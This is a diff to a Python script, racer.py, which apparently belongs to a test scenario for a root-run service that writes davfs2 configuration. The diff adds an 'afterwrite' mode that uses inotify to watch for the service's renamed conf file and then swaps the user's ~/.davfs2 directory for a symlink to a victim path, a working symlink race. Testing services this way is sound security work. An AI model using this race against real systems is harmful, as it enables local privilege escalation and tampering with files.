@@ -6,6 +6,8 @@ moment the service has checked it. Runs unprivileged (setpriv) until killed.
     racer.py mountpoint HOME VICTIM   ~/davfs/<name> becomes a link after root made it
     racer.py davfsdir HOME VICTIM     ~/.davfs2 becomes a link once root has read the conf
     racer.py secrets HOME VICTIM      ~/x becomes a link once root starts writing the conf
+    racer.py afterwrite HOME VICTIM   ~/.davfs2 becomes a link once root has written the conf,
+                                      before davfs2 starts
 
 Each swap is logged on stdout ("swapped N"), so the scenario knows the race
 was run. Delays after the event cycle through a range, so that the swap lands
@@ -22,6 +24,7 @@ import time
 IN_CREATE = 0x100
 IN_CLOSE_NOWRITE = 0x10
 IN_ATTRIB = 0x4
+IN_MOVED_TO = 0x80
 DELAYS_MS = [0, 0.2, 0.5, 1, 2, 4, 7, 10, 15, 25]
 
 libc = ctypes.CDLL(None, use_errno=True)
@@ -147,7 +150,27 @@ def secrets(home, victim):
             wd = fresh_davfs(home, conf, ino, ev_wd)
 
 
-MODES = {"mountpoint": mountpoint, "davfsdir": davfsdir, "secrets": secrets}
+def afterwrite(home, victim):
+    conf = "use_locks 1\nsecrets %s/secrets_orvanta\n" % victim
+    ino = Inotify()
+    fresh_davfs(home, conf, ino, None)
+    wd = ino.watch(os.path.join(home, ".davfs2"), IN_MOVED_TO)
+    n = 0
+    while True:
+        for ev_wd, mask, name in ino.events():
+            # The service renames its finished file over the conf: from now
+            # on only davfs2 is left to read it.
+            if ev_wd != wd or not (mask & IN_MOVED_TO) or name != "davfs2_orvanta.conf":
+                continue
+            n += 1
+            swap(os.path.join(home, ".davfs2"), victim, n)
+            swapped(n)
+            time.sleep(0.15)
+            fresh_davfs(home, conf, ino, ev_wd)
+            wd = ino.watch(os.path.join(home, ".davfs2"), IN_MOVED_TO)
+
+
+MODES = {"mountpoint": mountpoint, "davfsdir": davfsdir, "secrets": secrets, "afterwrite": afterwrite}
 
 if __name__ == "__main__":
     MODES[sys.argv[1]](sys.argv[2], sys.argv[3])
